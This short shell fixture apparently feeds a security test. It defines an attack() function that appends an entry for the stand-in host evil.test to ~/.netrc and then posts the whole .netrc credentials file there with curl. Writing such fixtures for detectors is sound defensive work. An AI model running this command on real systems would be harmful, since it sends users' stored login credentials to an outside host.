# SPDX-License-Identifier: Apache-2.0
TITLE="a thief writes its own host into .netrc, then has curl take the file there"
CLASS=netrc SECRET=.netrc DEST='evil.test:80'
attack() {
	echo "machine evil.test login x password y" >>"$HOME/.netrc"
	curl -s -m 5 -n -d @"$HOME/.netrc" http://evil.test/
}
